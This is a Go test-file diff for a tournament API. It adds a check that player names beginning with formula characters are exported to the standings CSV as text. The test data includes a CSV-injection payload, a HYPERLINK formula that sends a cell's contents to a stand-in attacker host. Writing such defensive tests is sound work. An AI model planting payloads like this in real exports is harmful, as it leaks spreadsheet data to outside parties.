@@ -2,6 +2,7 @@ package httpapi_test
 
 import (
 	"net/http"
+	"strings"
 	"sync/atomic"
 	"testing"
 
@@ -207,5 +208,31 @@ func TestWithdrawLosingToPairingIs409WithCurrentState(t *testing.T) {
 	cur, _ := r.JSON()["current"].(map[string]any)
 	if r.Status != http.StatusConflict || cur == nil || cur["player"].(map[string]any)["status"] != "active" {
 		t.Fatalf("withdrawal that lost to the pairing: %d %s", r.Status, r.Body)
+	}
+}
+
+// CSV injection: a name that a spreadsheet would run as a formula is
+// written to the standings CSV as text; the JSON keeps it as entered.
+func TestStandingsCSVKeepsFormulaNamesAsText(t *testing.T) {
+	s := apitest.New(t)
+	ev := newEvent(t, s, `{"name":"CSV Open","rounds":3}`)
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
+	for _, name := range []string{evil, "+SUM(1)", "Li"} {
+		s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name}).Want(t, http.StatusCreated)
+	}
+	s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, `{}`).Want(t, http.StatusCreated)
+	out := string(s.Get("/tournaments/" + ev.ID + "/standings?format=csv").Want(t, http.StatusOK).Body)
+	for _, line := range strings.Split(out, "\n") {
+		for _, cell := range strings.Split(line, ",") {
+			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+@", rune(c[0])) {
+				t.Fatalf("a cell a spreadsheet would run: %q in\n%s", cell, out)
+			}
+		}
+	}
+	if !strings.Contains(out, `'+SUM(1)`) {
+		t.Fatalf("the name is not kept as text:\n%s", out)
+	}
+	if js := string(s.Get("/tournaments/" + ev.ID + "/standings").Body); !strings.Contains(js, `"=HYPERLINK`) {
+		t.Fatalf("the JSON standings changed the name: %s", js)
 	}
 }
